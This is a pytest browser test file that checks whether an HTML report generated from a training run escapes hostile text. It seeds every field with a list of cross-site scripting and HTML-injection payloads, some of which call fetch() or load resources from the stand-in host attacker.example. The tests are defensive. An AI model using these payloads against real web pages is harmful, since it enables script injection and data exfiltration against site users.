"""Nothing that a run's files say can do anything in the report: opened in a real browser, script by script.

`tests/integration/test_report_in_browser.py` has the page as such; here every text of it is an attack.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from selective_dpo.curriculum.table import Curriculum
from selective_dpo.report.page import write_report
from selective_dpo.storage.artifacts import file_digest, read_json, write_json
from tests.fixtures.run_folder import make_run_folder

pytestmark = pytest.mark.browser

HIT = "window.hit=1;fetch('https://attacker.example/')"
ATTACKS = [
    f"<script>{HIT}</script>",
    f"</pre></section></style></title><script>{HIT}</script>",
    f'<img src=x onerror="{HIT}">',
    "<img src=https://attacker.example/pixel.png>",
    f'"><svg onload={HIT}>',
    f"' autofocus onfocus='{HIT}' x='",
    f'<a href="javascript:{HIT}">click</a>',
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>body{background:url(https://attacker.example/x)}</style>",
    "<base href=https://attacker.example/>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    "<meta http-equiv=refresh content=0;url=https://attacker.example/>",
    f"<form action=https://attacker.example/><button autofocus>{HIT}</button></form>",
    f"<!--><script>{HIT}</script-->",
    f"<math><mtext></mtext><script>{HIT}</script></math>",
    f"{{{{ 7*7 }}}}{{% raw %}}<script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    "&lt;script&gt;",
    "\u202e<script>\u2028\x00",
]
ALL = " ".join(ATTACKS)


def everywhere(value: Any, *, keys: bool = True) -> Any:
    """`value` with every text in it, and with `keys` some more of those, followed by all attacks."""
    if isinstance(value, dict):
        return {key: everywhere(item, keys=keys) for key, item in value.items()} | (
            {ALL: ALL} if keys else {}
        )
    if isinstance(value, list):
        return [everywhere(item, keys=keys) for item in value]
    return f"{value} {ALL}" if isinstance(value, str) else value


def in_texts(column: list[Any], change: Callable[[Any], Any]) -> list[Any]:
    return [None if text is None else json.dumps(change(json.loads(text))) for text in column]


def in_messages(text: Any) -> Any:
    if isinstance(text, str):
        return f"{text} {ALL}"
    return [{"role": f"{message['role']}{ALL}", "content": f"{message['content']}{ALL}"} for message in text]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of a run in which every text is an attack."""
    root = make_run_folder(tmp_path_factory.mktemp("attacked") / "run", pairs=60)
    path = root / "pairs" / "pairs.parquet"
    table = pq.read_table(path)
    columns = table.to_pydict()
    for name in ("prompt", "chosen", "rejected"):
        columns[name] = in_texts(columns[name], in_messages)
    columns["source"] = [f"{source}{ALL}" for source in columns["source"]]
    columns["status"] = [status if status == "kept" else f"{status}{ALL}" for status in columns["status"]]
    pq.write_table(pa.table(columns, schema=table.schema), path)
    curriculum = Curriculum.load(root)
    reason = pa.array([f"{each}{ALL}" for each in curriculum.table["reason"].to_pylist()])
    at = curriculum.table.column_names.index("reason")
    facts = dict(curriculum.facts)
    facts |= {name: everywhere(facts[name]) for name in ("provenance", "cost")} | {"key": ALL}
    Curriculum(curriculum.table.set_column(at, "reason", reason), facts).save(root)
    for name in ("config.json", "pairs/summary.json", "findings.json"):
        write_json(root / name, everywhere(read_json(root / name), keys=name != "findings.json"))
    results = read_json(root / "evaluation" / "results.json")
    for arm in results["arms"]:
        arm["label"] += ALL
        arm["name"] += "" if arm["name"] in ("selected", "reference") else ALL
    write_json(root / "evaluation" / "results.json", {**results, "judge": ALL})
    return write_report(root)


class Opened:
    """A page that was opened, looked at, and everything it asked for or said."""

    def __init__(self, browser: Any, report: Path) -> None:
        self.requests: list[str] = []
        self.said: list[str] = []
        self.left: list[str] = []
        """Requests that really left the page; those that its policy stopped are in `requests` only."""
        context = browser.new_context()
        context.route("https://attacker.example/**", self._answer)
        self.page = context.new_page()
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.on("dialog", lambda dialog: self.said.append(dialog.message))
        self.page.goto(report.as_uri(), wait_until="load")
        self.page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true; })")
        for key in ("Tab", "Tab", "Enter"):
            self.page.keyboard.press(key)
        self.page.mouse.move(200, 400)
        self.page.wait_for_timeout(200)

    def _answer(self, route: Any) -> None:
        self.left.append(route.request.url)
        route.fulfill(status=200, body="")


@pytest.mark.parametrize("has_policy", [True, False], ids=["policy", "by escaping alone"])
def test_no_script_runs_and_nothing_is_fetched(
    browser: Any, attacked: Path, tmp_path: Path, has_policy: bool
) -> None:
    report = attacked if has_policy else without_policy(attacked, tmp_path)
    opened = Opened(browser, report)
    assert opened.requests == [report.as_uri()] and opened.left == []
    assert opened.said == []
    assert opened.page.evaluate("typeof window.hit") == "undefined"
    assert opened.page.url == report.as_uri()
    foreign = (
        "script, img, iframe, link, base, form, a, button, object, embed, math, meta[http-equiv=refresh i]"
    )
    own = opened.page.locator("body > script")
    assert (
        own.count() == 2 and opened.page.locator("script").count() == 2
    )  # the browser of pairs, and its data
    assert opened.page.locator(f":is({foreign}):not(#browser *, body > script)").count() == 0
    assert (
        opened.page.locator("#browser :is(script, img, iframe, link, base, a, object, embed, math)").count()
        == 0
    )
    # Each pair, opened: its texts are text there, too.
    for place in range(min(20, opened.page.locator("td.start button").count())):
        opened.page.locator("td.start button").nth(place).click()
        assert opened.page.locator("dialog :is(script, img, iframe, svg, style, a, object)").count() == 0
        opened.page.keyboard.press("Escape")
    assert opened.page.evaluate("typeof window.hit") == "undefined" and opened.said == []
    handlers = (
        "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => /^on/i.test(n))"
    )
    assert opened.page.evaluate(handlers) == []
    assert opened.page.evaluate("document.styleSheets.length") == 1


def test_the_attacks_are_there_as_text(browser: Any, attacked: Path) -> None:
    page = Opened(browser, attacked).page
    text = page.evaluate("document.body.textContent")
    for attack in ATTACKS[:-1]:
        # In at least: title, arms' labels, drops, prompt, chosen, rejected, provenance.
        assert text.count(attack) >= 7, attack
    assert "\u202e" not in text and "\x00" not in text, "marks that turn the text around are shown as U+FFFD"
    assert page.title().count("<script>") >= 1


@pytest.mark.parametrize("attack", [each for each in ATTACKS[:-2] if "refresh" not in each])
def test_the_policy_alone_would_do(browser: Any, attacked: Path, tmp_path: Path, attack: str) -> None:
    # As if escaping had failed. (A refresh leads away and runs nothing; no policy of a page forbids that.)
    opened = Opened(browser, raw(attacked, tmp_path, attack))
    assert opened.page.evaluate("typeof window.hit") == "undefined"
    assert opened.left == []


@pytest.mark.parametrize("attack", [ATTACKS[0], ATTACKS[2], ATTACKS[3], ATTACKS[7]])
def test_the_attacks_are_real(browser: Any, attacked: Path, tmp_path: Path, attack: str) -> None:
    # With neither escaping nor policy they do what they are meant to: this test would see it.
    opened = Opened(browser, raw(without_policy(attacked, tmp_path), tmp_path, attack))
    assert opened.left
    if "window.hit" in attack:
        assert opened.page.evaluate("window.hit") == 1


def without_policy(report: Path, folder: Path) -> Path:
    """The report without its content security policy."""
    meta = '<meta http-equiv="Content-Security-Policy"'
    start, rest = report.read_text("utf-8").split(meta)
    bare = folder / "without-policy.html"
    bare.write_text(start + rest.split(">", maxsplit=1)[1], "utf-8")
    return bare


def raw(report: Path, folder: Path, attack: str) -> Path:
    """The report with markup that nothing escaped, and without what lies between its head and its end."""
    head, rest = report.read_text("utf-8").split("<body>", 1)
    broken = folder / "broken.html"
    broken.write_text(f"{head}<body>{attack}<footer>{rest.rsplit('<footer>', 1)[1]}", "utf-8")
    return broken


def test_the_digest_of_the_report_does_not_depend_on_when_it_is_written(attacked: Path) -> None:
    first = file_digest(attacked)
    assert file_digest(write_report(attacked.parent)) == first
